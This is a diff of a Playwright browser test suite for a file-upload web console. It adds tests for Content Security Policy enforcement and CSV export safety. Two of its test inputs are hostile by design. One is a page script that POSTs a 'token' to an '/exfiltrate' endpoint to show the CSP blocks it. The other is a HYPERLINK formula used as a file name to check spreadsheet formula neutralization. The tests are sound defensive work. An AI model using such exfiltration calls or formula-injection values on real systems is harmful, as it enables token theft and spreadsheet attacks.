@@ -4,7 +4,7 @@ import { join } from 'node:path';
 import { chromium, type Browser, type Page } from 'playwright-core';
 import * as samples from '../fixtures/samples.js';
 import { REPO_ROOT } from '../../local/settings.js';
-import { sharedRuntime, tokenFor, uniqueUser } from './support.js';
+import { createUpload, sharedRuntime, tokenFor, uniqueUser } from './support.js';
 
 /**
  * The web console in a real browser (Debian's Chromium driven by playwright-core), against the
@@ -56,6 +56,10 @@ describe('web console', () => {
   it('uploads dropped files with progress to 100%, shows PROCESSED and downloads the same bytes', async () => {
     // Arrange
     const page = await browser.newPage({ acceptDownloads: true });
+    const violations: string[] = [];
+    page.on('console', (message) => {
+      if (/Content Security Policy/i.test(message.text())) violations.push(message.text());
+    });
     await signIn(page, await tokenFor(runtime, uniqueUser('console')));
     const pdf = samples.pdf();
     const [pdfPath, pngPath] = filesOnDisk([
@@ -68,9 +72,10 @@ describe('web console', () => {
     await (await chooser).setFiles([pdfPath!, pngPath!]);
     // Assert
     const card = page.locator('li.upload', { hasText: 'report.pdf' });
-    await waitInPage(
-      page,
-      "[...document.querySelectorAll('li.upload')].every((li) => li.dataset.status === 'PROCESSED')",
+    await waitInPage(page, () =>
+      Array.from((globalThis as unknown as PageWindow).document.querySelectorAll('li.upload')).every(
+        (li) => li.getAttribute('data-status') === 'PROCESSED',
+      ),
     );
     const bars = page.locator('li.upload progress');
     expect([await bars.nth(0).getAttribute('value'), await bars.nth(1).getAttribute('value')]).toEqual([
@@ -83,10 +88,40 @@ describe('web console', () => {
       expect.stringContaining('PROCESSED'),
     ]);
     await page.screenshot({ path: join(SCREENSHOTS, 'uploads-processed.png'), fullPage: true });
-    const link = card.getByRole('link', { name: 'Download report.pdf' });
-    const href = await link.getAttribute('href');
-    const downloaded = Buffer.from(await (await fetch(href!)).arrayBuffer());
-    expect(downloaded.equals(pdf)).toBe(true);
+    // The link is signed on click (GET /uploads/{id}/download), then followed at once.
+    const signed = page.waitForResponse((response) => /\/uploads\/[^/]+\/download$/.test(response.url()));
+    const download = page.waitForEvent('download');
+    await card.getByRole('button', { name: 'Download report.pdf' }).click();
+    expect((await signed).status()).toBe(200);
+    const saved = await download;
+    expect(saved.suggestedFilename()).toBe('report.pdf');
+    expect(readFileSync(await saved.path()).equals(pdf)).toBe(true);
+    expect(violations).toEqual([]); // uploads to S3 and API calls all pass the CSP
+    await page.close();
+  });
+
+  it('runs under the deployed CSP: only its own origin and the upload endpoint are reachable', async () => {
+    // Arrange
+    const page = await browser.newPage();
+    const violations: string[] = [];
+    page.on('console', (message) => {
+      if (/Content Security Policy/i.test(message.text())) violations.push(message.text());
+    });
+    const response = await page.goto(runtime.apiUrl);
+    // Act: a script tries to send data to another origin (a stolen token's way out).
+    const outcome = await page.evaluate(() =>
+      fetch('http://127.0.0.1:9/exfiltrate', { method: 'POST', body: 'token' }).then(
+        () => 'sent',
+        () => 'blocked',
+      ),
+    );
+    // Assert
+    expect(response?.headers()['content-security-policy']).toContain("frame-ancestors 'none'");
+    expect(await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')).toMatch(
+      /connect-src 'self' http:\/\/127\.0\.0\.1:\d+$/,
+    );
+    expect(outcome).toBe('blocked');
+    expect(violations.join('\n')).toMatch(/connect-src/);
     await page.close();
   });
 
@@ -99,11 +134,17 @@ describe('web console', () => {
     await page.locator('#file-input').setInputFiles([spoofed!]);
     // Assert
     const card = page.locator('li.upload', { hasText: 'invoice.pdf' });
-    await waitInPage(page, "document.querySelector('li.upload')?.getAttribute('data-status') === 'REJECTED'");
+    await waitInPage(
+      page,
+      () =>
+        (globalThis as unknown as PageWindow).document
+          .querySelector('li.upload')
+          ?.getAttribute('data-status') === 'REJECTED',
+    );
     expect(await card.locator('.reasons li[data-code="TYPE_MISMATCH"]').textContent()).toBe(
       'The content of the file does not match its type.',
     );
-    expect(await card.getByRole('link', { name: /Download/ }).count()).toBe(0);
+    expect(await card.getByRole('button', { name: /Download/ }).count()).toBe(0);
     await page.screenshot({ path: join(SCREENSHOTS, 'upload-rejected.png'), fullPage: true });
     await page.close();
   });
@@ -117,7 +158,10 @@ describe('web console', () => {
     await ownerPage.locator('#file-input').setInputFiles([csvPath!]);
     await waitInPage(
       ownerPage,
-      "document.querySelector('li.upload')?.getAttribute('data-status') === 'PROCESSED'",
+      () =>
+        (globalThis as unknown as PageWindow).document
+          .querySelector('li.upload')
+          ?.getAttribute('data-status') === 'PROCESSED',
     );
     await ownerPage.close();
     const page = await browser.newPage({ acceptDownloads: true, viewport: { width: 390, height: 844 } });
@@ -141,26 +185,69 @@ describe('web console', () => {
     const csv = readFileSync(await (await download).path(), 'utf8')
       .trim()
       .split(/\r\n/);
-    expect(csv[0]).toBe('uploadId,owner,fileName,status,at,action,from,to,reasons,versionId');
+    expect(csv[0]).toBe(
+      'uploadId,owner,fileName,status,at,action,from,to,reasons,versionId,actor,executionId',
+    );
     expect(csv.slice(1).map((line) => line.split(',')[5])).toEqual(['ISSUED', 'CLAIMED', 'PROCESSED']);
     expect(csv.slice(1).every((line) => line.includes(owner))).toBe(true);
     await page.close();
   });
 });
 
+describe('web console CSV export', () => {
+  it('neutralizes a file name and an owner a spreadsheet would run as formulas', async () => {
+    // Arrange: an owner whose id and file name are formulas (both are the caller's own input).
+    const owner = uniqueUser('@owner');
+    const fileName = '=HYPERLINK("http://x","y")';
+    const created = await createUpload(runtime, await tokenFor(runtime, owner), {
+      fileName,
+      contentType: 'text/csv',
+      size: 10,
+    });
+    const page = await browser.newPage({ acceptDownloads: true });
+    await signIn(page, await tokenFor(runtime, uniqueUser('auditor'), ['auditors']));
+    await page.getByRole('button', { name: 'Audit' }).click();
+    await page.getByLabel('Owner').fill(owner);
+    await page.getByRole('button', { name: 'Search' }).click();
+    await waitForCount(page, '#audit-table tbody tr', 1);
+    // Act
+    const download = page.waitForEvent('download');
+    await page.getByRole('button', { name: 'Export CSV' }).click();
+    const csv = readFileSync(await (await download).path(), 'utf8');
+    // Assert: the row of the ISSUED event, as RFC 4180 quotes it, with each formula behind a "'".
+    const row = csv.split('\r\n').find((line) => line.startsWith(created.uploadId));
+    expect(row).toBeDefined();
+    expect(row).toContain(`,'${owner},"'=HYPERLINK(""http://x"",""y"")",PENDING_UPLOAD,`);
+    expect(csv).not.toMatch(/(^|,|\r\n)"?[=+\-@]/);
+    await page.close();
+  });
+});
+
 /**
- * Waits, with a deadline, until a condition written as page-side JavaScript holds. (Passed as a
- * string: it runs in the browser, not in this Node process.)
+ * The page's DOM, typed just enough for the conditions below (this tier compiles without the DOM
+ * lib). Page functions are sent to the browser as they are: each reaches it through globalThis.
  */
-async function waitInPage(page: Page, condition: string, timeout = 60_000): Promise<void> {
+interface PageWindow {
+  document: {
+    querySelector(css: string): { getAttribute(name: string): string | null } | null;
+    querySelectorAll(css: string): ArrayLike<{ getAttribute(name: string): string | null }>;
+  };
+}
+
+/**
+ * Waits, with a deadline, until a condition holds in the page. A function, not a string: the
+ * console runs under its deployed CSP, which refuses string evaluation (no 'unsafe-eval').
+ */
+async function waitInPage(page: Page, condition: () => boolean, timeout = 60_000): Promise<void> {
   await page.waitForFunction(condition, undefined, { timeout });
 }
 
 /** Waits (with a deadline) until exactly `count` elements match. */
 async function waitForCount(page: Page, selector: string, count: number): Promise<void> {
-  await waitInPage(
-    page,
-    `document.querySelectorAll(${JSON.stringify(selector)}).length === ${count}`,
-    30_000,
+  await page.waitForFunction(
+    ([css, expected]) =>
+      (globalThis as unknown as PageWindow).document.querySelectorAll(css).length === expected,
+    [selector, count] as const,
+    { timeout: 30_000 },
   );
 }
